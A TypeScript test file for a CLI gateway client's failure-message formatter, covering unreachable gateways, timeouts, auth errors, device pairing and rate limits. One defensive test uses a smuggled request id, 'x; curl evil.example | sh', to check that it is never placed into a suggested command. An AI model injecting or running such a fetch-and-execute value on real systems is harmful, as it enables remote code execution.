import { expect, test } from 'vitest';
import {
  closedDuringCall,
  closedEarly,
  connectTimeout,
  notReachable,
} from '../core/client/gateway-failure.ts';
import { RpcError } from '../core/protocol/errors.ts';
import { describeFailure } from './failure.ts';
import type { Target } from './target.ts';

const target: Target = {
  url: 'ws://127.0.0.1:19399',
  source: 'local loopback',
  port: 19_399,
  isLoopback: true,
  bindDetail: 'Bind: loopback',
};
const far: Target = { url: 'wss://far.example:443', source: 'cli --url', port: 443, isLoopback: false };
const configPath = '~/.openclaw/openclaw.json';
const refused = Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:19399'), { code: 'ECONNREFUSED' });

test('a gateway that does not listen is told as the recorded CLI tells it', () => {
  const failure = describeFailure(notReachable(target.url, refused), { target, configPath });
  expect(failure).toEqual({
    exitCode: 1,
    lines: [
      'Gateway not reachable at ws://127.0.0.1:19399 (ECONNREFUSED).',
      'Start it with `openclaw gateway run` or look at `openclaw logs`.',
      'Gateway target: ws://127.0.0.1:19399',
      'Source: local loopback',
      'Config: ~/.openclaw/openclaw.json',
      'Bind: loopback',
    ],
    document: {
      ok: false,
      error: {
        type: 'gateway_transport_error',
        kind: 'closed',
        message: 'Gateway not reachable at ws://127.0.0.1:19399 (ECONNREFUSED).',
        reason: 'connect ECONNREFUSED 127.0.0.1:19399',
      },
      gateway: { url: 'ws://127.0.0.1:19399', urlSource: 'local loopback', bindDetail: 'Bind: loopback' },
    },
  });
});

test('nobody is told to start a gateway on another machine', () => {
  const { lines, document } = describeFailure(notReachable(far.url, refused), { target: far });
  expect(lines.join('\n')).not.toContain('Start it with');
  expect(document.gateway).toEqual({ url: 'wss://far.example:443', urlSource: 'cli --url' });
});

test.each([
  ['during the handshake', closedEarly({ code: 1008, reason: 'slow consumer' })],
  ['during a call', closedDuringCall({ code: 1012, reason: 'service restart' }, true)],
])('a connection closed %s is a transport error with its close code', (_, error) => {
  const { document, lines } = describeFailure(error, { target });
  expect(document.error).toMatchObject({ type: 'gateway_transport_error', kind: 'closed' });
  expect(document.error.closeCode).toBeGreaterThan(1000);
  expect(lines[0]).toMatch(/^gateway closed \(1\d+\): /);
});

test('a gateway that is silent for too long is a transport error of the kind timeout', () => {
  const { document } = describeFailure(connectTimeout(target.url, 500), { target });
  expect(document.error).toMatchObject({ type: 'gateway_transport_error', kind: 'timeout', timeoutMs: 500 });
});

test('what a gateway answered keeps its code, message and details', () => {
  const details = { code: 'AUTH_TOKEN_MISMATCH', canRetryWithDeviceToken: false };
  const error = new RpcError('INVALID_REQUEST', 'unauthorized: gateway token mismatch (x)', details);
  expect(describeFailure(error, { target, configPath })).toEqual({
    exitCode: 1,
    lines: ['unauthorized: gateway token mismatch (x)'],
    document: {
      ok: false,
      error: {
        type: 'gateway_request_error',
        code: 'INVALID_REQUEST',
        message: 'unauthorized: gateway token mismatch (x)',
        details,
        retryable: false,
      },
    },
  });
});

test('a label stands before what a gateway answered, and only for people', () => {
  const error = new RpcError('INVALID_REQUEST', 'unknown method: nope.method');
  const { lines, document } = describeFailure(error, { target, label: 'Gateway call failed' });
  expect(lines).toEqual(['Gateway call failed: unknown method: nope.method']);
  expect(document.error.message).toBe('unknown method: nope.method');
});

test('a device that has to be paired is told its request and the command that approves it', () => {
  const details = {
    code: 'PAIRING_REQUIRED',
    reason: 'not-paired',
    requestId: '3f2a-77',
    pairingCode: '042 917',
  };
  const error = new RpcError('NOT_PAIRED', 'pairing required: device is not approved yet', details);
  expect(describeFailure(error, { target: far }).lines).toEqual([
    'pairing required: device is not approved yet',
    'Request: 3f2a-77',
    'Code: 042 917 (whoever approves sees the same one)',
    'Approve it on the gateway host: openclaw devices approve 3f2a-77',
  ]);
});

test('a request id that could end a shell command is not put into one', () => {
  const details = { code: 'PAIRING_REQUIRED', requestId: 'x; curl evil.example | sh' };
  const { lines } = describeFailure(new RpcError('NOT_PAIRED', 'pairing required', details), { target: far });
  expect(lines.join('\n')).not.toContain('evil');
  expect(lines.at(-1)).toContain('openclaw devices list');
});

test('a wait that the gateway asks for is told in seconds and in milliseconds', () => {
  const error = new RpcError(
    'INVALID_REQUEST',
    'unauthorized: too many failed authentication attempts (retry later)',
    { code: 'AUTH_RATE_LIMITED' },
    { retryable: true, retryAfterMs: 5988 },
  );
  const { lines, document } = describeFailure(error, { target });
  expect(lines.at(-1)).toBe('Try again in 6 s.');
  expect(document.error).toMatchObject({ retryable: true, retryAfterMs: 5988 });
});

test.each(['MISSING_SCOPE', 'AUTH_TOKEN_MISSING', 'AUTH_SCOPE_MISMATCH', 'AUTH_DEVICE_TOKEN_MISMATCH'])(
  '%s comes with the next step, for people only',
  (code) => {
    const { lines, document } = describeFailure(new RpcError('INVALID_REQUEST', 'no', { code }), { target });
    expect(lines).toHaveLength(2);
    expect(document.error).toEqual({
      type: 'gateway_request_error',
      code: 'INVALID_REQUEST',
      message: 'no',
      details: { code },
      retryable: false,
    });
  },
);

test('a detail code that names an object member is no advice', () => {
  const error = new RpcError('INVALID_REQUEST', 'no', { code: 'constructor' });
  expect(describeFailure(error, { target }).lines).toEqual(['no']);
});

test('a refused plain address is told with where it came from', () => {
  const details = { code: 'INSECURE_URL', problem: 'SECURITY ERROR: …', fix: 'Fix: Use wss://' };
  const error = new RpcError('BAD_ARGUMENT', 'SECURITY ERROR: …\nFix: Use wss://', details);
  expect(describeFailure(error, { target: far, configPath }).lines).toEqual([
    'SECURITY ERROR: …',
    'Source: cli --url',
    'Config: ~/.openclaw/openclaw.json',
    'Fix: Use wss://',
  ]);
});

test('problems of this side have a type of their own, and the exit status of the error table', () => {
  const document = (code: ConstructorParameters<typeof RpcError>[0]) => {
    const failure = describeFailure(new RpcError(code, 'm'));
    return [failure.document.error.type, failure.exitCode];
  };
  expect(document('CREDENTIALS_REQUIRED')).toEqual(['gateway_credentials_required', 1]);
  expect(document('CONFIG_INVALID')).toEqual(['config_invalid', 78]);
  expect(document('BAD_ARGUMENT')).toEqual(['bad_argument', 1]);
  expect(document('NOT_AVAILABLE')).toEqual(['not_available', 1]);
});

test('an unexpected error shows where it happened only when asked to', () => {
  const error = new TypeError('x is not a function');
  expect(describeFailure(error).lines.join('\n')).not.toContain('failure.test.ts');
  expect(describeFailure(error, { trace: true }).lines.join('\n')).toContain('failure.test.ts');
  expect(describeFailure(error).document.error).toMatchObject({ type: 'internal_error', code: 'INTERNAL' });
});

test('commands are shown as they have to be typed', () => {
  const context = { target, command: 'openclaw --profile s' };
  const down = describeFailure(notReachable(target.url, refused), context).lines.join('\n');
  expect(down).toContain(
    'Start it with `openclaw --profile s gateway run` or look at `openclaw --profile s logs`.',
  );
  const pairing = { code: 'PAIRING_REQUIRED', requestId: 'r-1' };
  const lines = (details: Record<string, unknown>, at = target) =>
    describeFailure(new RpcError('NOT_PAIRED', 'no', details), { ...context, target: at }).lines;
  expect(lines(pairing).at(-1)).toContain('openclaw --profile s devices approve r-1');
  expect(lines({ code: 'MISSING_SCOPE' }).at(-1)).toContain('openclaw --profile s devices list');
  expect(lines(pairing, far).at(-1)).toContain(': openclaw devices approve r-1');
});

test('the port that was chosen for the user is told with the other places', () => {
  const portDetail = 'Port: 19399, where the gateway of this state directory runs (pid 7); configured is 1';
  const failure = describeFailure(notReachable(target.url, refused), { target: { ...target, portDetail } });
  expect(failure.lines).toContain(portDetail);
  expect(failure.document.gateway).not.toHaveProperty('portDetail');
});

test('a time-out is told with the number the user gave', () => {
  const { lines, document } = describeFailure(connectTimeout(target.url, 2992), { target, timeoutMs: 3000 });
  expect(lines[0]).toContain('within 3000 ms');
  expect(document.error).toMatchObject({ timeoutMs: 3000, message: expect.stringContaining('3000 ms') });
});

test.each([
  ['HTTP 404', 'A web server answers there; this is not an OpenClaw gateway. Check address and port.'],
  ['HTTP 503', 'Check the address, and that the gateway runs and can be reached.'],
])('an answer of %s is told apart from silence', (reason, step) => {
  const { lines } = describeFailure(notReachable(far.url, new Error(reason)), { target: far });
  expect(lines[1]).toBe(step);
});

test.each(['unknown requestId', 'unknown deviceId/role', 'device token rotation denied'])(
  '%s points to the list',
  (message) => {
    const { lines } = describeFailure(new RpcError('INVALID_REQUEST', message), { target });
    expect(lines).toEqual([message, 'Ids and roles are shown by: openclaw devices list']);
  },
);
